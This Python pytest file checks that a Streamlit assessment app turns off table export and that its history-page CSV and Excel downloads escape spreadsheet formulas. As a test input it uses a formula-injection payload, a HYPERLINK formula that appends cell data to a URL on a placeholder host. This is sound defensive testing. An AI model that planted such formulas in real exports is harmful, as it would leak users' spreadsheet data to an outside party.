"""Tables holding typed text: no toolbar export (a global setting), guarded downloads on the pages instead."""

from __future__ import annotations

import csv
import io
import tomllib

import pytest

from maturity import compare, tables
from tests import helpers

FORMULA = "=HYPERLINK(\"http://x/?\"&A1,\"open\")"


def test_the_toolbar_export_of_every_table_is_off(root):
    # st.dataframe has no per-table switch in Streamlit 1.67; client.disableDataExport hides the CSV
    # download and the copy of every table (tests/e2e/test_export_guard_browser.py sees it in chromium).
    config = tomllib.loads((root / ".streamlit/config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


@pytest.mark.parametrize(("lang", "labels"), [
    ("zh", {"下载列表（CSV）", "下载列表（Excel）"}),
    ("en", {"Download the list (CSV)", "Download the list (Excel)"}),
])
def test_history_offers_a_guarded_export_of_union_names(root, store, tiny, lang, labels):
    record = store.create_assessment(tiny, {"name": FORMULA}, assessed_at="2026-11-26")
    store.save_answers(record.token, {"leading.party": 2})
    at = helpers.open_page(root, "history", lang)
    assert not at.exception, at.exception
    assert labels <= {b.proto.label for b in at.get("download_button")}
    # what the buttons write: the page's table through the guarded writer
    frame = at.dataframe[0].value
    rows = list(csv.reader(io.StringIO(tables.csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows[1][0] == "'" + FORMULA
    assert list(frame.columns) == list(compare.history_frame([], lang).columns)
